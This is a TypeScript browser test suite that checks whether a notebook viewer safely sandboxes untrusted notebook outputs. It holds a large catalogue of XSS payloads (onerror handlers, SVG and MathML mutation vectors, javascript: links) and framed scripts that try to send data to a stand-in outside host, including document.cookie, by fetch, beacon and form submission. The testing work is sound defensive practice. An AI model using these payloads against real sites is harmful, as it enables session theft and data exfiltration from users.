/**
 * Notebooks that somebody else made are looked at safely: nothing of them runs as the person who looks, and no request leaves.
 * Each is opened in Chromium; whoever runs in the page's origin would set a mark there, whoever reaches out is counted.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { type Carrel, startCarrel } from '../support/carrel.ts';
import { cell, code, open, SOON, startBrowser, text, type Visitor, visitor, worksheetOf } from './worksheet-browser.ts';

let carrel: Carrel;
let browser: Browser;
let person: Visitor;
let outside: Server;
let reached: string[];
let away: string;

beforeAll(async () => {
  carrel = await startCarrel();
  browser = await startBrowser();
  person = await visitor(browser, carrel);
  outside = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((done) => outside.listen(0, '127.0.0.1', done));
  away = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await browser?.close();
  await carrel?.stop();
  outside?.close();
});
beforeEach(() => {
  reached = [];
});

/** Runs where it can, and says where that was. */
const strike = (how: string) =>
  `try{parent.document.struck='${how}'}catch{};document.struck='${how}';fetch('AWAY/${how}')`;

const MARKUP: Record<string, string> = {
  'a script': `<script>${strike('script')}</script>`,
  'an image that fails': `<img src=x onerror="${strike('onerror')}">`,
  'an image from outside': `<img src="AWAY/img"><img srcset="AWAY/srcset 1x"><picture><source srcset="AWAY/source"></picture>`,
  'an SVG with a script': `<svg onload="${strike('svg')}"><script>${strike('svgscript')}</script><use href="AWAY/use"/></svg>`,
  'an animated SVG link': `<svg><a><animate attributeName=href values="javascript:${strike('animate')}" /><text y=20>x</text></a></svg>`,
  MathML: `<math><mtext><mglyph><style><img src=x onerror="${strike('mxss')}"></style></mglyph></mtext></math>`,
  'a mutation': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${strike('mutation')}">`,
  'a comment that ends': `<!--><img src=x onerror="${strike('comment')}">-->`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${strike('noscript')}>">`,
  'an inner frame': `<iframe srcdoc="<script>${strike('srcdoc')}</script>"></iframe><iframe src="AWAY/frame"></iframe>`,
  'an object': `<object data="AWAY/object"></object><embed src="AWAY/embed">`,
  'a style sheet': `<link rel=stylesheet href="AWAY/link"><style>@import url("AWAY/import"); body{background:url("AWAY/bg")}</style>`,
  'a style attribute': `<div style="background:url('AWAY/style');position:fixed;inset:0;z-index:9999">over all</div>`,
  'a base and a refresh': `<base href="AWAY/"><meta http-equiv=refresh content="0;url=AWAY/refresh">`,
  'a form': `<form action="AWAY/form"><input name=x autofocus onfocus="${strike('focus')}"><button>go</button></form>`,
  'clobbered names': `<a id=page name=body></a><img name=getElementById><form id=carrel><input name=parentNode></form>`,
  'a details that opens': `<details open ontoggle="${strike('toggle')}"><summary>x</summary></details>`,
  prefetching: `<link rel=prefetch href="AWAY/prefetch"><link rel=preconnect href="AWAY"><link rel=dns-prefetch href="AWAY">`,
  'a link to a script': `<a class=link href="javascript:${strike('href')}">click</a><a href="data:text/html,x">y</a><a href="/api/signout">z</a>`,
  video: `<video src="AWAY/video" poster="AWAY/poster" autoplay></video><audio src="AWAY/audio" autoplay></audio>`,
  'a template': `<template><img src=x onerror="${strike('template')}"></template><xmp><img src=x onerror=1></xmp>`,
};

/** Scripts in the frame try what they are not to do. */
const FRAMED: Record<string, string> = {
  'the parent': `try { parent.document.struck = 'parent' } catch {} try { top.document.struck = 'top' } catch {}`,
  requests: `fetch('AWAY/fetch').catch(()=>{}); new Image().src='AWAY/image'; navigator.sendBeacon('AWAY/beacon'); try { new WebSocket('AWAY/ws'.replace('http','ws')) } catch {} try { new EventSource('AWAY/es') } catch {}`,
  'going away': `location.href = 'AWAY/location'`,
  'taking the page away': `try { top.location.href = 'AWAY/top' } catch {} try { parent.location = 'AWAY/parent' } catch {}`,
  windows: `try { open('AWAY/open') } catch {} document.body.insertAdjacentHTML('beforeend', '<a id=go target=_blank href=AWAY/blank>x</a>'); go.click()`,
  forms: `const f = document.createElement('form'); f.action = 'AWAY/submit'; document.body.append(f); f.submit()`,
  frames: `const i = document.createElement('iframe'); i.src = 'AWAY/inner'; document.body.append(i); const d = document.createElement('iframe'); d.srcdoc = '<img src=AWAY/deep>'; document.body.append(d)`,
  workers: `try { new Worker(URL.createObjectURL(new Blob(["fetch('AWAY/worker')"]))) } catch {}`,
  modules: `import('AWAY/module.js').catch(()=>{}); const s = document.createElement('script'); s.src = 'AWAY/script.js'; document.body.append(s)`,
  messages: `parent.postMessage({ carrelHeight: 1e9 }, '*'); parent.postMessage({ carrelHeight: { valueOf() { return 5 } } }.constructor, '*')`,
  'the cookie': `try { parent.postMessage(document.cookie, '*') } catch {} try { localStorage.x = 1 } catch {} fetch('AWAY/c?' + (() => { try { return document.cookie } catch { return '' } })()).catch(()=>{})`,
  'meta refresh': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=AWAY/refresh">')`,
};

const there = (markup: string) => markup.replaceAll('AWAY', away);
const html = (markup: string) =>
  code('', [{ output_type: 'display_data', metadata: {}, data: { 'text/html': there(markup) } }]);

/** Opens the cells, touches them as a person would, and tells what came of it. */
async function look(cells: object[]): Promise<void> {
  const { page } = person;
  const id = await worksheetOf(carrel, cells);
  const address = `${carrel.url}/worksheets/${id}`;
  await open(page, carrel, id);
  for (const link of await page.locator('.rendered a, .html a').all())
    await link.click({ timeout: 2000, noWaitAfter: true }).catch(() => {});
  await page.mouse.move(400, 300);
  /** What strikes does so at once; this is time for requests to arrive. */
  await page.waitForTimeout(700);
  expect(await page.evaluate('document.struck')).toBeUndefined();
  expect(reached).toEqual([]);
  expect(page.url().replace(/#.*/, '')).toBe(address);
  expect(
    page
      .context()
      .pages()
      .filter((one) => one.url().startsWith(away)),
  ).toEqual([]);
  expect(await page.locator('.toolbar .main').isVisible()).toBe(true);
  expect((await page.request.get(`${carrel.url}/api/me`)).status()).toBe(200);
}

test.each(Object.entries(MARKUP))(
  '%s in a text, in an output and in a result made of Markdown',
  async (_name, markup) => {
    const shown = there(markup);
    const markdown = { output_type: 'display_data', metadata: {}, data: { 'text/markdown': shown } };
    const latex = { output_type: 'display_data', metadata: {}, data: { 'text/latex': `$x$ ${shown}` } };
    await look([text(`Before\n\n${shown}\n\nafter`), html(markup), code('', [markdown, latex])]);
  },
);

test('what is counted as reached is counted, and what is taken for running runs', async () => {
  await fetch(`${away}/counted`);
  expect(reached).toEqual(['/counted']);
  const { page } = person;
  await open(
    page,
    carrel,
    await worksheetOf(carrel, [
      html('<p>before</p>' + '<script>document.querySelector("p").textContent = "ran"</script>'),
    ]),
  );
  await expect.poll(() => page.frameLocator('iframe').locator('p').innerText(), SOON).toBe('ran');
});

test.each(Object.entries(FRAMED))('a script in an output that tries %s', async (_name, script) => {
  await look([
    html(`<p>here</p><script>${script}</script>`),
    code('', [{ output_type: 'display_data', metadata: {}, data: { 'application/javascript': there(script) } }]),
  ]);
});

test('an SVG picture runs no script and loads nothing', async () => {
  const svg = there(
    `<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50" onload="${strike('image')}"><script>${strike('imagescript')}</script><image href="AWAY/image"/></svg>`,
  );
  await look([code('', [{ output_type: 'display_data', metadata: {}, data: { 'image/svg+xml': svg } }])]);
});

test('formulas with addresses, styles and classes are formulas only', async () => {
  const tex = [
    '\\href{javascript:alert(1)}{x}',
    `\\url{${away}/url}`,
    `\\includegraphics{${away}/graphics}`,
    '\\htmlStyle{position:fixed}{x}',
    '\\htmlClass{toolbar}{x}',
    '\\htmlData{id=page}{x}',
    '\\def\\a{\\a\\a}\\a',
    '\\rule{100000em}{100000em}',
  ];
  await look([text(tex.map((formula) => `$${formula}$`).join('\n\n'))]);
  expect(await cell(person.page, 0).locator('a, img, .toolbar').count()).toBe(0);
});

test('texts that terminals would obey are text', async () => {
  const stream = {
    output_type: 'stream',
    name: 'stdout',
    text: '\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07 <img src=x onerror=alert(1)> \x1b[31;<b>m',
  };
  const error = {
    output_type: 'error',
    ename: '<b>',
    evalue: '<img src=x onerror=alert(1)>',
    traceback: ['<script>alert(1)</script>'],
  };
  await look([code('', [stream, error])]);
  expect(await cell(person.page, 0).locator('.outputs').innerText()).toContain('<img src=x onerror=alert(1)>');
});

test('attachments, names and metadata put nothing but pictures into the page', async () => {
  const quote = `"><img src=x onerror="${strike('attachment')}">`;
  const attachments = { 'a.png': { [`image/png${quote}`]: 'AAAA' }, 'b.png': { 'image/png': `AAAA${quote}` } };
  const picture = {
    output_type: 'display_data',
    data: { 'image/png': `AAAA${quote}`, 'text/plain': quote },
    metadata: { 'image/png': { width: quote } },
  };
  await look([
    { ...text(`![x](attachment:a.png) ![y](attachment:b.png) ![z](attachment:constructor)`), attachments },
    code('', [picture, { output_type: 'display_data', metadata: {}, data: { [quote]: 'x' } }]),
  ]);
});
